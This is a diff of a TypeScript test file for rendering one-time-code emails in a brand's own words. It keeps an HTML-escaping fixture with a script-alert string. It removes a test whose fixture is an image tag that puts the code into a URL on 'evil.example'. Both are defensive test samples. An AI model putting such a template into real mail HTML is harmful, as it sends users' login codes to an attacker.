@@ -1,17 +1,13 @@
 import { describe, expect, test } from 'bun:test'
 import fc from 'fast-check'
-import { textBeforeCode } from '../../src/adapters/email/code-in-html.ts'
 import { textOf } from '../../src/adapters/email/text.ts'
 import { Failure } from '../../src/domain/ground/failures.ts'
 import { directionOf } from '../../src/domain/ground/languages.ts'
 import { type BrandChange, freshBrand } from '../../src/domain/operator/brands.ts'
 import { type BrandText, BrandTexts } from '../../src/domain/texts/brand-texts.ts'
-import { type MailBrand, otpMail as otpMailOf, renderMail } from '../../src/domain/texts/emails.ts'
+import { otpMail, renderMail } from '../../src/domain/texts/emails.ts'
 import { escapeHtml, textOn } from '../../src/domain/texts/mail-layout.ts'
 import { otpLanguages } from '../../src/domain/texts/otp-texts.ts'
-
-const otpMail = (brand: MailBrand, otp: Parameters<typeof otpMailOf>[1], lang: string | undefined) =>
-  otpMailOf(brand, otp, lang, textBeforeCode)
 
 const nasty = `<script>alert("1")</script>&'`
 const escaped = '&lt;script&gt;alert(&quot;1&quot;)&lt;/script&gt;&amp;&#39;'
@@ -94,13 +90,6 @@ describe("the mail of a code in the brand's words (design D47)", () => {
     const { subject, text } = otpMail(brandWith({}, { de: own }), code, 'de-AT')
     expect(subject).toBe('Acme: Acme, 5 min')
     expect(text).toBe('Hallo <Acme>,\n\n  012345\n\ngültig 5 Minuten\r\nund {curly} $& bleibt.\n')
-  })
-
-  test('is the built-in mail if the stored HTML has the code in a URL', () => {
-    const html = '<p>Hi</p><img src="https://evil.example/?c={{otp}}">'
-    const mail = otpMail(brandWith({}, { de: { ...own, html } }), code, 'de')
-    expect(mail).toEqual(otpMail(brandWith(), code, 'de'))
-    expect(mail.html).toContain('012345')
   })
 
   test('has HTML made of the text, in the language, with the code in its box', () => {
